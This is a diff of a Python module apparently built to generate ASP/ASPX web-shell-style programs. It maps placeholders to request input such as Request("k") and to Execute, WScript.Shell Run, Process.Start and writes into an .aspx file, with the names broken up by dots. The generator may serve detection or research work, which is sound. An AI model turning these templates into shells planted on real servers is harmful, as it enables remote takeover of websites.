@@ -22,9 +22,9 @@ _ARGUMENTS = r"\(((?:[^()]|\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*\))*)\)"
 class Dialect:
     """How a page of one language is written.
 
-    Placeholders in a program: ``VISITOR`` is a text of the visitor, ``CRIME(x)`` and ``CRIME2(x)`` run a text or write
-    it into the site, ``CRIME`` without brackets is the name of that function. ``«`` and ``»`` delimit a server block.
-    A program that is a class has the handler as its last one.
+    Placeholders in a program: ``VISITOR`` is a text of the visitor, ``CRIME(x)`` and ``CRIME2(x)`` run a text, start
+    the program of that name (malicious only if the visitor names it) or write it into the site; ``CRIME`` alone is the
+    name of that function. ``«`` and ``»`` delimit a server block. The last class of a handler's file is the handler.
     """
 
     name: str
@@ -33,18 +33,18 @@ class Dialect:
     calls: tuple[tuple[str, str], ...]
 
 
-_START = 'System.Diagn·ostics.Pro·cess.Start("c·md.exe", '
+_START = "System.Diagn·ostics.Pro·cess.Start"
 _SHELL = 'CreateObject("WScr·ipt.Sh·ell").Run'
-_WRITE = r'System.IO.File.WriteAll·Text("C:/inetpub/wwwroot/a.as·px", '
+_WRITE = 'System.IO.File.AppendAll·Text(Server.MapPath("a.as·px"), '
 DIALECTS = {
     "vbscript": Dialect("VBScript", ".asp", 'Req·uest("k")', (("CRIME2", _SHELL), ("CRIME", "Exec·ute"))),
     "vbnet": Dialect(
         "VB", ".aspx", 'Req·uest("k")',
-        (("CRIME2(", "Sh·ell("), ("CRIME(", _START), ("CRIME", "System.Diagn·ostics.Pro·cess.Start")),
+        (("CRIME2", "Sh·ell"), ("CRIME", _START)),
     ),
     "csharp": Dialect(
         "C#", ".aspx", 'Req·uest["k"]',
-        (("CRIME2(", _WRITE), ("CRIME(", _START), ("CRIME", "System.Diagn·ostics.Pro·cess.Start")),
+        (("CRIME2(", _WRITE), ("CRIME", _START)),
     ),
     "jscript": Dialect(
         "JScript", ".aspx", 'Req·uest.Item["k"]',
